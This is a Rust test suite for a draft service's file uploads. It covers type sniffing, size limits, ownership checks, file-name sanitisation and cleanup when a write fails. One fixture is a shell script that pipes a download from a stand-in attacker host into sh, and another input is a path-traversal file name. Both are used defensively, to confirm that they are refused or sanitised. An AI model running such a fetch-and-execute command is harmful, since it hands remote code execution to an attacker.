//! Upload tests: executables and oversized files are refused and leave
//! nothing stored; real PDFs and PNGs are accepted with their SHA-256 and
//! sniffed type; only the owner sees them; a failed row write takes its
//! object with it.

use std::sync::Arc;

use async_trait::async_trait;
use chrono::{DateTime, Utc};
use tongban_service::Refusal;
use tongban_service::ServiceError;
use tongban_service::drafts::UploadLimits;
use tongban_store::{
    DraftChange, DraftRemoval, DraftRow, DraftStore, DraftWrite, StoreError, UploadRow, UploadWrite,
};

use super::harness::{
    applicant, chef, elf, env, env_with, material, pdf_of_len, pe, service, sha256_hex, small_pdf,
    tiny_png,
};

fn refusal(err: &ServiceError) -> Option<Refusal> {
    match err {
        ServiceError::Refused { kind, .. } => Some(*kind),
        _ => None,
    }
}

#[tokio::test]
async fn an_executable_renamed_pdf_is_refused_and_leaves_no_object_and_no_row() {
    let env = env().await;
    let me = applicant("zhang");
    let draft = env.drafts.create(&me, chef()).await.unwrap();
    let script = b"#!/bin/sh\ncurl http://evil.example | sh\n".to_vec();
    for (name, bytes) in [
        ("营业执照.pdf", elf()),
        ("身份证.pdf", pe()),
        ("照片.png", script),
    ] {
        let err = env
            .drafts
            .upload(&me, &draft.id, &material("id-card"), name, bytes)
            .await
            .unwrap_err();
        assert_eq!(err.code(), "upload_type_refused", "{name}");
        assert_eq!(refusal(&err), Some(Refusal::UnsupportedType));
        assert!(err.to_string().contains("可执行"), "{err}");
    }
    let unknown = env
        .drafts
        .upload(
            &me,
            &draft.id,
            &material("id-card"),
            "a.pdf",
            b"just some text".to_vec(),
        )
        .await
        .unwrap_err();
    assert_eq!(unknown.code(), "upload_type_refused");

    assert!(env.stored_files().is_empty(), "{:?}", env.stored_files());
    assert_eq!(env.upload_rows().await, 0);
    assert!(env.drafts.uploads(&me, &draft.id).await.unwrap().is_empty());
}

#[tokio::test]
async fn an_oversized_file_is_refused_with_the_limit_and_leaves_nothing() {
    let limits = UploadLimits {
        max_bytes: 1024 * 1024,
        ..UploadLimits::default()
    };
    let env = env_with(limits).await;
    let me = applicant("zhang");
    let draft = env.drafts.create(&me, chef()).await.unwrap();
    let err = env
        .drafts
        .upload(
            &me,
            &draft.id,
            &material("floor-plan"),
            "big.pdf",
            pdf_of_len(1024 * 1024 + 1),
        )
        .await
        .unwrap_err();
    assert_eq!(err.code(), "upload_too_large");
    assert_eq!(refusal(&err), Some(Refusal::TooLarge));
    assert!(err.to_string().contains("1 MB"), "{err}");
    assert!(env.stored_files().is_empty());
    assert_eq!(env.upload_rows().await, 0);

    let empty = env
        .drafts
        .upload(
            &me,
            &draft.id,
            &material("floor-plan"),
            "empty.pdf",
            Vec::new(),
        )
        .await
        .unwrap_err();
    assert_eq!(empty.code(), "upload_empty");
    assert!(env.stored_files().is_empty());

    // Exactly at the limit is accepted.
    let at_limit = env
        .drafts
        .upload(
            &me,
            &draft.id,
            &material("floor-plan"),
            "ok.pdf",
            pdf_of_len(1024 * 1024),
        )
        .await
        .unwrap();
    assert_eq!(at_limit.size, 1024 * 1024);
    assert_eq!(env.upload_rows().await, 1);
}

#[tokio::test]
async fn a_pdf_and_a_png_are_accepted_with_their_sha256_and_sniffed_type() {
    let env = env().await;
    let me = applicant("zhang");
    let draft = env.drafts.create(&me, chef()).await.unwrap();
    let pdf = env
        .drafts
        .upload(
            &me,
            &draft.id,
            &material("floor-plan"),
            "../../etc/平面图.pdf",
            small_pdf(),
        )
        .await
        .unwrap();
    assert_eq!(pdf.content_type, "application/pdf");
    assert_eq!(pdf.sha256, sha256_hex(&small_pdf()));
    assert_eq!(pdf.size, small_pdf().len() as u64);
    assert_eq!(pdf.file_name, "平面图.pdf");
    // The name says JPEG; the content is a PNG.
    let png = env
        .drafts
        .upload(
            &me,
            &draft.id,
            &material("id-card"),
            "证件照.jpg",
            tiny_png(),
        )
        .await
        .unwrap();
    assert_eq!(png.content_type, "image/png");
    assert_eq!(png.sha256, sha256_hex(&tiny_png()));

    assert_eq!(
        env.drafts.uploads(&me, &draft.id).await.unwrap(),
        [pdf.clone(), png.clone()]
    );
    let (opened, bytes) = env.drafts.open_upload(&me, &png.id).await.unwrap();
    assert_eq!((opened, bytes), (png.clone(), tiny_png()));

    // Stored under ids, never under the user's file name.
    let files = env.stored_files();
    assert_eq!(files.len(), 2);
    for file in &files {
        let path = file.to_string_lossy();
        assert!(path.contains(draft.id.as_str()), "{path}");
        assert!(
            !path.contains("平面图") && !path.contains("证件照"),
            "{path}"
        );
    }

    env.drafts
        .remove_upload(&me, &draft.id, &pdf.id)
        .await
        .unwrap();
    assert_eq!(env.drafts.uploads(&me, &draft.id).await.unwrap(), [png]);
    assert_eq!(env.stored_files().len(), 1);
    assert_eq!(env.upload_rows().await, 1);
}

#[tokio::test]
async fn another_applicant_cannot_list_open_add_or_remove_uploads() {
    let env = env().await;
    let owner = applicant("zhang");
    let other = applicant("li");
    let draft = env.drafts.create(&owner, chef()).await.unwrap();
    let pdf = env
        .drafts
        .upload(
            &owner,
            &draft.id,
            &material("floor-plan"),
            "a.pdf",
            small_pdf(),
        )
        .await
        .unwrap();

    let list = env.drafts.uploads(&other, &draft.id).await.unwrap_err();
    assert_eq!(list.code(), "draft_not_found");
    let open = env.drafts.open_upload(&other, &pdf.id).await.unwrap_err();
    assert_eq!(open.code(), "upload_not_found");
    let add = env
        .drafts
        .upload(
            &other,
            &draft.id,
            &material("id-card"),
            "b.pdf",
            small_pdf(),
        )
        .await
        .unwrap_err();
    assert_eq!(add.code(), "draft_not_found");
    let remove = env.drafts.remove_upload(&other, &draft.id, &pdf.id).await;
    assert_eq!(remove.unwrap_err().code(), "draft_not_found");
    // Their own draft cannot reach someone else's upload either.
    let theirs = env.drafts.create(&other, chef()).await.unwrap();
    let via_own = env.drafts.remove_upload(&other, &theirs.id, &pdf.id).await;
    assert_eq!(via_own.unwrap_err().code(), "upload_not_found");

    assert_eq!(env.drafts.uploads(&owner, &draft.id).await.unwrap(), [pdf]);
    assert_eq!(env.stored_files().len(), 1);
}

#[tokio::test]
async fn deleting_a_draft_deletes_its_uploaded_files() {
    let env = env().await;
    let me = applicant("zhang");
    let draft = env.drafts.create(&me, chef()).await.unwrap();
    let keep = env.drafts.create(&me, chef()).await.unwrap();
    for (id, name) in [
        (&draft.id, "a.pdf"),
        (&draft.id, "b.png"),
        (&keep.id, "c.pdf"),
    ] {
        let bytes = if name.ends_with("png") {
            tiny_png()
        } else {
            small_pdf()
        };
        env.drafts
            .upload(&me, id, &material("floor-plan"), name, bytes)
            .await
            .unwrap();
    }
    assert_eq!(env.stored_files().len(), 3);
    env.drafts.delete(&me, &draft.id).await.unwrap();
    assert_eq!(
        env.drafts.draft(&me, &draft.id).await.unwrap_err().code(),
        "draft_not_found"
    );
    assert_eq!(env.stored_files().len(), 1);
    assert_eq!(env.upload_rows().await, 1);
    assert_eq!(env.drafts.uploads(&me, &keep.id).await.unwrap().len(), 1);
}

/// A store whose upload rows can never be written.
struct RowsFail(tongban_store::Db);

#[async_trait]
impl DraftStore for RowsFail {
    async fn insert_draft(&self, draft: &DraftRow) -> Result<(), StoreError> {
        self.0.insert_draft(draft).await
    }
    async fn draft(&self, id: &str) -> Result<Option<DraftRow>, StoreError> {
        self.0.draft(id).await
    }
    async fn drafts_of(&self, owner: &str) -> Result<Vec<DraftRow>, StoreError> {
        self.0.drafts_of(owner).await
    }
    async fn update_draft(&self, change: &DraftChange) -> Result<DraftWrite, StoreError> {
        self.0.update_draft(change).await
    }
    async fn delete_draft(&self, id: &str) -> Result<DraftRemoval, StoreError> {
        self.0.delete_draft(id).await
    }
    async fn insert_upload(&self, _: &UploadRow) -> Result<UploadWrite, StoreError> {
        Err(StoreError::Database(sqlx::Error::PoolTimedOut))
    }
    async fn uploads(&self, draft: &str) -> Result<Vec<UploadRow>, StoreError> {
        self.0.uploads(draft).await
    }
    async fn upload(&self, id: &str) -> Result<Option<UploadRow>, StoreError> {
        self.0.upload(id).await
    }
    async fn delete_upload(
        &self,
        draft: &str,
        id: &str,
        at: DateTime<Utc>,
    ) -> Result<UploadWrite, StoreError> {
        self.0.delete_upload(draft, id, at).await
    }
}

#[tokio::test]
async fn when_the_row_cannot_be_written_the_written_file_is_deleted_again() {
    let env = env().await;
    let me = applicant("zhang");
    let failing = service(
        Arc::new(RowsFail(env.db.clone())),
        env.uploads_dir.path(),
        UploadLimits::default(),
        env.clock.clone(),
    );
    let draft = failing.create(&me, chef()).await.unwrap();
    let err = failing
        .upload(
            &me,
            &draft.id,
            &material("floor-plan"),
            "a.pdf",
            small_pdf(),
        )
        .await
        .unwrap_err();
    assert_eq!(err.code(), "store_unavailable");
    assert!(env.stored_files().is_empty(), "{:?}", env.stored_files());
    assert_eq!(env.upload_rows().await, 0);
}
